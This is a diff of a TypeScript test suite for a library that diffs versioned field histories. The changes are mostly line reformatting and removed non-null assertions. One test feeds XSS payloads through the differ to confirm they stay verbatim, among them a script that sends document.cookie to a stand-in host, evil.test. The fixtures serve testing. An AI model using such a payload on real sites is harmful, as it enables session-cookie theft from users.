@@ -17,27 +17,39 @@ const field = (diffs: VersionDiff[], version: number, name: string): FieldDiff =
 };
 /** The old text is the kept and removed parts; the new text the kept and added parts. */
 const sides = (parts: TextPart[]) => ({
-  old: parts.filter((p) => !p.added).map((p) => p.value).join(''),
-  new: parts.filter((p) => !p.removed).map((p) => p.value).join(''),
+  old: parts
+    .filter((p) => !p.added)
+    .map((p) => p.value)
+    .join(''),
+  new: parts
+    .filter((p) => !p.removed)
+    .map((p) => p.value)
+    .join(''),
 });
 
 describe('version diff: the same history in every shape the vendor may send', () => {
   for (const name of ['canonical.json', 'lowercase.json', 'no-wrapper.json', 'bare-array.json', 'history.xml']) {
     it(`${name}: normalised, then diffed per version and field`, () => {
       const diffs = diffVersions(load(name), { principalEmail: 'jane@acme.test' });
-      assert.deepEqual(diffs.slice(0, 4).map((d) => [d.version, d.user, d.byPrincipal, d.fields.map((f) => `${f.field}:${f.kind}`)]), [
-        [1, 'svc@acme.test', false, ['Title:set']],
-        [2, 'jane@acme.test', true, ['Title:text', 'Caption:set']],
-        [3, 'Raj@Acme.test', false, ['Caption:unset', 'Keywords:text']],
-        [4, 'JANE@acme.test', true, []],
-      ]);
-      assert.equal(diffs[0]!.date, '2026-01-05T10:00:00Z');
+      assert.deepEqual(
+        diffs.slice(0, 4).map((d) => [d.version, d.user, d.byPrincipal, d.fields.map((f) => `${f.field}:${f.kind}`)]),
+        [
+          [1, 'svc@acme.test', false, ['Title:set']],
+          [2, 'jane@acme.test', true, ['Title:text', 'Caption:set']],
+          [3, 'Raj@Acme.test', false, ['Caption:unset', 'Keywords:text']],
+          [4, 'JANE@acme.test', true, []],
+        ],
+      );
+      assert.equal(diffs[0].date, '2026-01-05T10:00:00Z');
       assert.deepEqual(field(diffs, 1, 'Title').parts, [{ value: 'Harbour at dawn', added: true }]);
       assert.deepEqual(field(diffs, 2, 'Title').parts, [{ value: 'Harbour at ' }, { value: 'dawn', removed: true }, { value: 'dusk', added: true }]);
       assert.deepEqual(field(diffs, 3, 'Caption').parts, [{ value: 'Boats in the harbour', removed: true }]);
       const keywords = field(diffs, 3, 'Keywords');
       assert.deepEqual(sides(keywords.parts!), { old: 'harbour, boats', new: 'harbour, small boats, dusk' });
-      assert.deepEqual(keywords.parts!.filter((p) => p.added).map((p) => p.value.trim()), ['small', ', dusk']);
+      assert.deepEqual(
+        keywords.parts!.filter((p) => p.added).map((p) => p.value.trim()),
+        ['small', ', dusk'],
+      );
       assert.ok(!keywords.parts!.some((p) => p.removed), 'nothing was removed from the keywords');
     });
   }
@@ -52,8 +64,14 @@ describe('version diff: the same history in every shape the vendor may send', ()
     const versions = load('canonical.json');
     const diffs = diffVersions(versions);
     assert.ok(diffs.every((d) => !d.byPrincipal));
-    assert.deepEqual(filterByUser(diffs, 'Jane@ACME.test').map((d) => d.version), [2, 4]);
-    assert.deepEqual(filterByUser(diffs, 'raj@acme.test').map((d) => d.version), [3]);
+    assert.deepEqual(
+      filterByUser(diffs, 'Jane@ACME.test').map((d) => d.version),
+      [2, 4],
+    );
+    assert.deepEqual(
+      filterByUser(diffs, 'raj@acme.test').map((d) => d.version),
+      [3],
+    );
     assert.equal(filterByUser(diffs, '').length, 4);
     assert.equal(filterByUser(diffs, undefined).length, 4);
     assert.deepEqual(usersOf(versions), ['jane@acme.test', 'Raj@Acme.test', 'svc@acme.test']);
@@ -115,7 +133,7 @@ describe('version diff: JSON values', () => {
     const moderate = diffField('Deep', deep(1, 300), deep(2, 300));
     assert.equal(moderate.kind, 'json');
     assert.equal(moderate.changes!.length, 1);
-    assert.ok(moderate.changes![0]!.path.startsWith('$.a.a.a'));
+    assert.ok(moderate.changes![0].path.startsWith('$.a.a.a'));
     // Deeper than JSON.stringify can go: still an answer (a text diff), never a crash.
     const extreme = diffField('Deep', deep(1, 20_000), deep(2, 20_000));
     assert.ok(extreme.kind === 'json' || extreme.kind === 'text');
@@ -130,12 +148,21 @@ describe('version diff: HTML and script payloads stay verbatim', () => {
     assert.deepEqual(field(diffs, 1, 'Description').parts, [{ value: '<p>Hello</p><script>alert("x")</script>', added: true }]);
     const edited = field(diffs, 2, 'Description');
     assert.equal(edited.kind, 'text');
-    assert.deepEqual(sides(edited.parts!), { old: '<p>Hello</p><script>alert("x")</script>', new: '<p>Hello <img src=x onerror="alert(1)"></p><script>alert("x")</script>' });
-    assert.equal(edited.parts!.filter((p) => p.added).map((p) => p.value).join(''), ' <img src=x onerror="alert(1)">');
+    assert.deepEqual(sides(edited.parts!), {
+      old: '<p>Hello</p><script>alert("x")</script>',
+      new: '<p>Hello <img src=x onerror="alert(1)"></p><script>alert("x")</script>',
+    });
+    assert.equal(
+      edited
+        .parts!.filter((p) => p.added)
+        .map((p) => p.value)
+        .join(''),
+      ' <img src=x onerror="alert(1)">',
+    );
     assert.ok(!edited.parts!.some((p) => p.removed));
     const title = field(diffs, 2, 'Title');
     assert.equal(title.kind, 'unset');
-    assert.equal(title.parts![0]!.value, `"><script>document.location='http://evil.test/?c='+document.cookie</script>`);
+    assert.equal(title.parts![0].value, `"><script>document.location='http://evil.test/?c='+document.cookie</script>`);
   });
 });
 
@@ -161,7 +188,12 @@ describe('version diff: text details', () => {
       { value: 'jumps', removed: true },
       { value: 'leaps', added: true },
     ]);
-    assert.deepEqual(diffText('emoji 😀 here', 'emoji 😃 here'), [{ value: 'emoji ' }, { value: '😀', removed: true }, { value: '😃', added: true }, { value: ' here' }]);
+    assert.deepEqual(diffText('emoji 😀 here', 'emoji 😃 here'), [
+      { value: 'emoji ' },
+      { value: '😀', removed: true },
+      { value: '😃', added: true },
+      { value: ' here' },
+    ]);
     assert.deepEqual(diffText('same', 'same'), [{ value: 'same' }]);
     assert.deepEqual(diffField('F', 'same', 'same'), { field: 'F', kind: 'text', oldValue: 'same', newValue: 'same', parts: [{ value: 'same' }] });
   });
@@ -186,7 +218,14 @@ describe('version diff: text details', () => {
     // One word changed in a huge text: the common head and tail still show as kept.
     const c = `${a.slice(0, 30_000)} CHANGED ${a.slice(30_000)}`;
     const small = diffText(a, c);
-    assert.equal(small.filter((p) => p.added).map((p) => p.value).join('').trim(), 'CHANGED');
+    assert.equal(
+      small
+        .filter((p) => p.added)
+        .map((p) => p.value)
+        .join('')
+        .trim(),
+      'CHANGED',
+    );
     assert.deepEqual(sides(small), { old: a, new: c });
   });
 });
@@ -211,45 +250,129 @@ describe('version diff: what diffVersions remembers between versions changes not
 
   it('JSON parsed once per text, shared heads and tails: the same diffs as diffField field by field', () => {
     const versions = history([
-      [['J', '{"a":1,"b":[1,2]}'], ['T', 'revision 1 of the caption'], ['W', ' [1, 2]']],
-      [['J', '{"a":2,"b":[1,2]}'], ['T', 'revision 2 of the caption'], ['W', '\n[1, 3] ']],
+      [
+        ['J', '{"a":1,"b":[1,2]}'],
+        ['T', 'revision 1 of the caption'],
+        ['W', ' [1, 2]'],
+      ],
+      [
+        ['J', '{"a":2,"b":[1,2]}'],
+        ['T', 'revision 2 of the caption'],
+        ['W', '\n[1, 3] '],
+      ],
       // Same text again, text that looks like JSON but is not, then JSON again.
-      [['J', '{"a":2,"b":[1,2]}'], ['T', 'revision 12 of the caption'], ['W', '[1, 3']],
-      [['J', '{not json}'], ['T', 'revision 13 of the caption'], ['W', '[1, 4]']],
-      [['J', '{"a":3}'], ['T', 'revision 13 of the captions'], ['W', 'plain']],
+      [
+        ['J', '{"a":2,"b":[1,2]}'],
+        ['T', 'revision 12 of the caption'],
+        ['W', '[1, 3'],
+      ],
+      [
+        ['J', '{not json}'],
+        ['T', 'revision 13 of the caption'],
+        ['W', '[1, 4]'],
+      ],
+      [
+        ['J', '{"a":3}'],
+        ['T', 'revision 13 of the captions'],
+        ['W', 'plain'],
+      ],
       // Old values that are not the previous new values (the memo must check, not assume).
-      [['J', '{"a":4}', '{"a":9}'], ['T', 'revision 1 of the caption', 'Revision 1 of the caption'], ['W', '[2]', '[1]']],
+      [
+        ['J', '{"a":4}', '{"a":9}'],
+        ['T', 'revision 1 of the caption', 'Revision 1 of the caption'],
+        ['W', '[2]', '[1]'],
+      ],
       // Heads and tails of the same length but other characters; what was added is removed next.
-      [['T', 'revisiom 7 of the caption'], ['U', 'alpha beta gamma']],
-      [['T', 'revisiom 8 of the captiom'], ['U', 'alpha delta gamma']],
-      [['T', 'revisiom 9 of the captiom'], ['U', 'alpha delta gamma'], ['U', 'alpha epsilon gamma', 'alpha delta gamma']],
-      [['T', ''], ['U', 'alpha delta gamma', 'alpha zeta gamma'], ['J', '']],
-      [['T', 'x'], ['J', '[]']],
+      [
+        ['T', 'revisiom 7 of the caption'],
+        ['U', 'alpha beta gamma'],
+      ],
+      [
+        ['T', 'revisiom 8 of the captiom'],
+        ['U', 'alpha delta gamma'],
+      ],
+      [
+        ['T', 'revisiom 9 of the captiom'],
+        ['U', 'alpha delta gamma'],
+        ['U', 'alpha epsilon gamma', 'alpha delta gamma'],
+      ],
+      [
+        ['T', ''],
+        ['U', 'alpha delta gamma', 'alpha zeta gamma'],
+        ['J', ''],
+      ],
+      [
+        ['T', 'x'],
+        ['J', '[]'],
+      ],
       // Changes that move: the head or tail the field had before is not common any more, or grows.
-      [['S', 'a b c d e'], ['E', 'emoji 😀 here']],
-      [['S', 'a X c d e'], ['E', 'emoji 😃 here']],
-      [['S', 'a X c Y e'], ['E', 'emoji 😄 here!']],
-      [['S', 'Z X c Y e'], ['E', 'Emoji 😄 here!']],
-      [['S', 'Z X c Y e f'], ['E', 'Emoji 😄 there!']],
-      [['S', 'Z X c Y e g'], ['E', 'Emoji 😄 there?']],
-      [['S', 'Z X c Y e g'], ['E', 'Emoji 😄 there?']],
+      [
+        ['S', 'a b c d e'],
+        ['E', 'emoji 😀 here'],
+      ],
+      [
+        ['S', 'a X c d e'],
+        ['E', 'emoji 😃 here'],
+      ],
+      [
+        ['S', 'a X c Y e'],
+        ['E', 'emoji 😄 here!'],
+      ],
+      [
+        ['S', 'Z X c Y e'],
+        ['E', 'Emoji 😄 here!'],
+      ],
+      [
+        ['S', 'Z X c Y e f'],
+        ['E', 'Emoji 😄 there!'],
+      ],
+      [
+        ['S', 'Z X c Y e g'],
+        ['E', 'Emoji 😄 there?'],
+      ],
+      [
+        ['S', 'Z X c Y e g'],
+        ['E', 'Emoji 😄 there?'],
+      ],
     ]);
     const diffs = diffVersions(versions);
-    assert.deepEqual(diffs.map((d) => d.fields), alone(versions));
-    for (const d of diffs) for (const f of d.fields) if (f.parts) assert.deepEqual(sides(f.parts), { old: f.oldValue, new: f.newValue }, `v${d.version} ${f.field}`);
+    assert.deepEqual(
+      diffs.map((d) => d.fields),
+      alone(versions),
+    );
+    for (const d of diffs)
+      for (const f of d.fields) if (f.parts) assert.deepEqual(sides(f.parts), { old: f.oldValue, new: f.newValue }, `v${d.version} ${f.field}`);
     assert.deepEqual(field(diffs, 2, 'W').changes, [{ path: '$[1]', kind: 'changed', oldValue: '2', newValue: '3' }]);
     assert.equal(field(diffs, 4, 'J').kind, 'text');
     assert.deepEqual(field(diffs, 6, 'J').changes, [{ path: '$.a', kind: 'changed', oldValue: '9', newValue: '4' }]);
     assert.deepEqual(field(diffs, 8, 'U').parts, [{ value: 'alpha ' }, { value: 'beta', removed: true }, { value: 'delta', added: true }, { value: ' gamma' }]);
-    assert.deepEqual(diffs[8]!.fields[2]!.parts, [{ value: 'alpha ' }, { value: 'delta', removed: true }, { value: 'epsilon', added: true }, { value: ' gamma' }]);
+    assert.deepEqual(diffs[8].fields[2].parts, [
+      { value: 'alpha ' },
+      { value: 'delta', removed: true },
+      { value: 'epsilon', added: true },
+      { value: ' gamma' },
+    ]);
   });
 
   it('diffing the same history twice gives equal results, and the input is left as it was', () => {
-    const versions = history([[['J', '{"a":[1,{"b":2}]}'], ['T', 'one two']], [['J', '{"a":[1,{"b":3}]}'], ['T', 'one three']], [['J', '{"a":[1,{"b":4}],"c":null}']]]);
+    const versions = history([
+      [
+        ['J', '{"a":[1,{"b":2}]}'],
+        ['T', 'one two'],
+      ],
+      [
+        ['J', '{"a":[1,{"b":3}]}'],
+        ['T', 'one three'],
+      ],
+      [['J', '{"a":[1,{"b":4}],"c":null}']],
+    ]);
     const before = JSON.stringify(versions);
     const once = diffVersions(versions);
     assert.deepEqual(diffVersions(versions), once);
-    assert.deepEqual(once.map((d) => d.fields), alone(versions));
+    assert.deepEqual(
+      once.map((d) => d.fields),
+      alone(versions),
+    );
     assert.equal(JSON.stringify(versions), before);
   });
 });
@@ -280,9 +403,15 @@ describe('version diff: a generated 1,000-version × 50-field history', function
         else assert.deepEqual(sides(f.parts!), { old: f.oldValue, new: f.newValue }, `v${d.version} ${f.field}`);
       }
     }
-    assert.ok(kinds['text']! > 0 && kinds['json']! > 0 && kinds['set']! > 0 && kinds['unset']! > 0, JSON.stringify(kinds));
+    assert.ok(kinds['text'] > 0 && kinds['json'] > 0 && kinds['set'] > 0 && kinds['unset'] > 0, JSON.stringify(kinds));
     // The same as each field diffed on its own (diffVersions reuses what it derived from the previous version).
-    diffs.forEach((d, i) => assert.deepEqual(d.fields, versions[i]!.changes.map((c) => diffField(c.field, c.oldValue, c.newValue)), `v${d.version}`));
+    diffs.forEach((d, i) =>
+      assert.deepEqual(
+        d.fields,
+        versions[i].changes.map((c) => diffField(c.field, c.oldValue, c.newValue)),
+        `v${d.version}`,
+      ),
+    );
     // Users rotate through five spellings of four people; Jane's two spellings both count.
     assert.equal(diffs.filter((d) => d.byPrincipal).length, 400);
     assert.deepEqual(usersOf(versions), ['ana@acme.test', 'jane@acme.test', 'raj@acme.test', 'svc@acme.test']);
